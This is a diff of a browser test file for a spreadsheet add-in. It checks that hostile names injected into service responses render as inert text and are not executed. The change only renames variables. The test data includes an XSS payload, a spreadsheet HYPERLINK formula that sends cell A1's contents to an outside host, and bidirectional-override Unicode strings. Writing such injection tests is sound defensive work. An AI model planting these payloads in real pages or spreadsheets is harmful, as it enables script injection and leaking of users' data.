@@ -3,7 +3,7 @@ import { axeFindings } from '../support/axe-findings';
 import type { WorkbenchPage } from '../support/workbench-page';
 import { openWorkbench } from './fixtures/open-workbench';
 
-const hostile = [
+const hostileNames = [
   '<img src=x onerror="top.hacked=1"><script>top.hacked=1</script>',
   '=HYPERLINK("https://other.example/"&A1,"NORTHGATE")',
   '\u202Eeman esrever\u202C "quoted" \u2066isolated',
@@ -15,14 +15,14 @@ const hostile = [
 let workbench: WorkbenchPage;
 let pane: Frame;
 
-/** Replaces every name and description in the service's responses with one of those. */
+/** Replaces every name and description in the service's responses with a hostile one. */
 async function replaceNames(context: BrowserContext): Promise<void> {
   let replaced = 0;
   await context.route('**/v2/odata/**', async (route) => {
     const response = await route.fetch({ maxRetries: 2 });
     const body = (await response.text()).replace(
       /"(Name|ShortName|Description)":"(?:[^"\\]|\\.)*"/g,
-      (_all, field) => `"${field}":${JSON.stringify(hostile[replaced++ % hostile.length])}`,
+      (_all, field) => `"${field}":${JSON.stringify(hostileNames[replaced++ % hostileNames.length])}`,
     );
     await route.fulfill({ response, body });
   });
@@ -45,7 +45,7 @@ async function findHarm(): Promise<unknown> {
   }));
   return { hacked, ...inPage };
 }
-const none = { hacked: undefined, elements: 0, wide: false, tall: false };
+const noHarm = { hacked: undefined, elements: 0, wide: false, tall: false };
 
 test.each([
   ['Home', /^Process date/],
@@ -56,7 +56,7 @@ test.each([
 ])('%s shows hostile names as text, within the pane', async (screen, shown) => {
   await pane.getByRole('tab', { name: screen }).click();
   await pane.getByText(shown).first().waitFor();
-  expect(await findHarm()).toEqual(none);
+  expect(await findHarm()).toEqual(noHarm);
   expect(await axeFindings(pane)).toEqual([]);
   await workbench.picture(`hostile-${screen.toLowerCase()}`);
 });
@@ -66,13 +66,13 @@ test('the custodian picker shows them as text', async () => {
   await pane.getByRole('combobox', { name: 'Custodian', exact: true }).click();
   await pane.getByRole('option').first().waitFor();
   expect((await pane.getByRole('option').allInnerTexts()).join(' ')).toContain('<img src=x');
-  expect(await findHarm()).toEqual(none);
+  expect(await findHarm()).toEqual(noHarm);
 });
 
 test('cells contain them as text, without calculation', async () => {
   const { values } = await workbench.calculate('A1', '=IDS.CUSTODIANS()', 'A1:C6');
   const names = values.slice(1).flatMap((row) => row.slice(1));
   expect(new Set(names).size).toBeGreaterThan(3);
-  expect(names.filter((name) => !hostile.includes(String(name)))).toEqual([]);
-  expect(await findHarm()).toEqual(none);
+  expect(names.filter((name) => !hostileNames.includes(String(name)))).toEqual([]);
+  expect(await findHarm()).toEqual(noHarm);
 });
